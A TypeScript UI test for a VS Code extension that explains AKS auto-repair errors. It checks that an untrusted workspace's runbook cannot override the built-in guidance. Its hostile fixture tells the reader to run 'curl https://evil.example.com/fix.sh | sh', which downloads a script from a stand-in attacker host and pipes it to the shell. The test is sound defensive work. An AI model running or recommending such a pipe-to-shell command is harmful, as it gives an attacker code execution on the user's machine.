import * as assert from 'node:assert/strict';
import { screenshotFailures, Workbench } from './workbench';

/** What a hostile repository would like the panel to say about a real auto-repair code. */
const HOSTILE_RUNBOOK = [
  '---',
  'id: VMExtensionProvisioningError',
  'title: "HOSTILE RUNBOOK: run curl evil | sh"',
  'kind: code',
  'matches:',
  '  - VMExtensionProvisioningError',
  'action: any',
  'severity: error',
  'summary: "HOSTILE RUNBOOK: run curl evil | sh"',
  'firstStep: "HOSTILE RUNBOOK: run curl evil | sh"',
  '---',
  'HOSTILE RUNBOOK: fix the node by running this on your workstation:',
  '',
  '```sh',
  'curl https://evil.example.com/fix.sh | sh',
  '```',
  '',
].join('\n');

const LOG = [
  '09:39:43 Warning NodeReimageError  node/aks-userpool-31415926-vmss000003',
  '  Node auto-repair reimage action failed due to an operation failure: VMExtensionProvisioningError',
  '',
].join('\n');

describe('ui: an untrusted workspace cannot replace the guidance', () => {
  let wb: Workbench;
  before(async () => {
    wb = await Workbench.open({
      workspaceTrust: true,
      files: {
        '.vscode/settings.json': JSON.stringify({ 'aksNodeRepair.catalogFolders': ['./runbooks'] }, null, 2),
        'runbooks/VMExtensionProvisioningError.md': HOSTILE_RUNBOOK,
        'repair-events.log': LOG,
      },
    });
  });
  screenshotFailures(() => wb);
  after(async () => { await wb?.close(); });

  it('shows the built-in entry and says why the workspace catalog folder is ignored', async () => {
    // A person who just cloned the repository answers VS Code's trust question: no.
    await wb.answerTrustPrompt(false);
    await wb.page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).first().waitFor({ state: 'visible', timeout: 15_000 });

    // Cursor on the code in the log, then the command from the palette.
    await wb.openFile('repair-events.log');
    await wb.hoverText('VMExtensionProvisioningError');
    await wb.page.mouse.down();
    await wb.page.mouse.up();
    await wb.page.keyboard.press('Escape');
    await wb.runCommand('AKS: Explain Auto-Repair Error');

    const view = wb.webview();
    const h1 = view.locator('header h1');
    await h1.waitFor({ state: 'visible', timeout: 30_000 });
    assert.equal(await h1.innerText(), 'VMExtensionProvisioningError', 'the built-in title, not the hostile one');
    const page = await view.locator('body').innerText();
    assert.ok(!page.includes('HOSTILE'), 'nothing of the workspace runbook is shown');
    assert.ok(!page.includes('evil.example.com'), 'nothing of the workspace runbook is shown');
    assert.match(await view.locator('footer').innerText(), /built-in AKS Node Auto-Repair catalog/);
    assert.equal(await view.locator('.badge.origin-user').count(), 0);

    const notice = view.locator('.notice[role="status"]');
    await notice.waitFor({ state: 'visible', timeout: 5_000 });
    const noticeText = (await notice.innerText()).replace(/\s+/g, ' ');
    assert.match(noticeText, /not trusted/);
    assert.match(noticeText, /aksNodeRepair\.catalogFolders \(\.\/runbooks\)/);
    assert.match(noticeText, /built-in guidance/);
    assert.equal(await notice.locator('button[data-action="manageTrust"]').count(), 1);

    await wb.page.waitForTimeout(500);
    await wb.screenshot('untrusted-workspace');

  });

  it('uses the workspace catalog folder once the person trusts the folder from the notice', async () => {
    // The notice's button opens VS Code's own trust editor; trusting the folder brings the
    // workspace's runbook in and the notice goes.
    const view = wb.webview();
    const notice = view.locator('.notice[role="status"]');
    await notice.locator('button[data-action="manageTrust"]').click();
    await wb.answerTrustEditor(true);
    await view.locator('header h1', { hasText: 'HOSTILE RUNBOOK' }).waitFor({ state: 'visible', timeout: 20_000 });
    assert.equal(await view.locator('.notice').count(), 0);
  });
});
